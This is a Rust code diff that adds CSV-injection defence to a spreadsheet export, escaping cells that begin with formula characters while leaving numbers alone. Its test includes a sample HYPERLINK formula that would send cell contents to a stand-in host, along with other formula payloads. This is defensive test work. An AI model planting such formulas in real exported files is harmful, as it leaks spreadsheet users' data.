@@ -251,13 +251,15 @@ pub fn share(part: i64, whole: i64) -> Option<f64> {
 }
 
 /// A table as CSV for spreadsheet programs: UTF-8 with a byte-order mark,
-/// CRLF line ends, fields quoted where needed.
+/// CRLF line ends, fields quoted where needed, and no cell a spreadsheet
+/// would run as a formula (`inert`).
 pub fn csv(header: &[&str], rows: &[Vec<String>]) -> String {
     let field = |s: &str| {
+        let s = inert(s);
         if s.contains([',', '"', '\n', '\r', ';']) {
             format!("\"{}\"", s.replace('"', "\"\""))
         } else {
-            s.to_string()
+            s.into_owned()
         }
     };
     let mut out = String::from("\u{feff}");
@@ -267,6 +269,31 @@ pub fn csv(header: &[&str], rows: &[Vec<String>]) -> String {
         out.push_str(&line(r.iter().map(|c| field(c)).collect()));
     }
     out
+}
+
+/// A cell as a spreadsheet shows it, never runs it (OWASP's rule for CSV
+/// injection): a cell that begins with `=`, `+`, `-`, `@`, a tab or a
+/// carriage return gets a leading `'`, so `=HYPERLINK(…)` in an agency's
+/// or category's name (which a regional coordinator or a superadmin
+/// chooses) stays text in the national coordinator's spreadsheet. A number
+/// stays a number: `-3`, `+2`, `4.5`, `12,5` and `45%` are left alone.
+pub fn inert(cell: &str) -> std::borrow::Cow<'_, str> {
+    let risky = cell.starts_with(['=', '+', '-', '@', '\t', '\r']);
+    if risky && !is_number(cell) {
+        format!("'{cell}").into()
+    } else {
+        cell.into()
+    }
+}
+
+/// A signed decimal number, with `.` or `,` before its fraction and an
+/// optional `%`: what spreadsheets read as a number, not a formula.
+fn is_number(cell: &str) -> bool {
+    let unsigned = cell.strip_prefix(['+', '-']).unwrap_or(cell);
+    let digits = unsigned.strip_suffix('%').unwrap_or(unsigned);
+    let (whole, fraction) = digits.split_once(['.', ',']).unwrap_or((digits, "0"));
+    let all_digits = |s: &str| !s.is_empty() && s.bytes().all(|b| b.is_ascii_digit());
+    all_digits(whole) && all_digits(fraction)
 }
 
 #[cfg(test)]
@@ -331,5 +358,21 @@ mod tests {
     fn csv_has_a_bom_and_quotes() {
         let s = csv(&["Kategori", "Jumlah"], &[vec!["Air, minum".into(), "3".into()], vec!["Kata \"x\"".into(), "1".into()]]);
         assert_eq!(s, "\u{feff}Kategori,Jumlah\r\n\"Air, minum\",3\r\n\"Kata \"\"x\"\"\",1\r\n");
+    }
+
+    #[test]
+    fn csv_cells_never_run_as_formulas_and_numbers_stay_numbers() {
+        let name = "=HYPERLINK(\"http://contoh.example/?\"&A2,\"Buka\")";
+        let s = csv(&["Instansi", "Laporan"], &[vec![name.into(), "-3".into()], vec!["@SUM(A1)".into(), "+2".into()]]);
+        assert_eq!(
+            s,
+            "\u{feff}Instansi,Laporan\r\n\"'=HYPERLINK(\"\"http://contoh.example/?\"\"&A2,\"\"Buka\"\")\",-3\r\n'@SUM(A1),+2\r\n"
+        );
+        for risky in ["=1+1", "+cmd", "-2+3", "@x", "\tx", "\r=1", "-", "+", "=", "-1e3", "-1.", "--1"] {
+            assert_eq!(inert(risky), format!("'{risky}"), "{risky:?}");
+        }
+        for safe in ["-3", "+2", "4.5", "-12,5", "45%", "-0.5%", "0", "Dinas – PUPR", "1. =HYPERLINK(x)", "'=x", "–"] {
+            assert_eq!(inert(safe), safe, "{safe:?}");
+        }
     }
 }
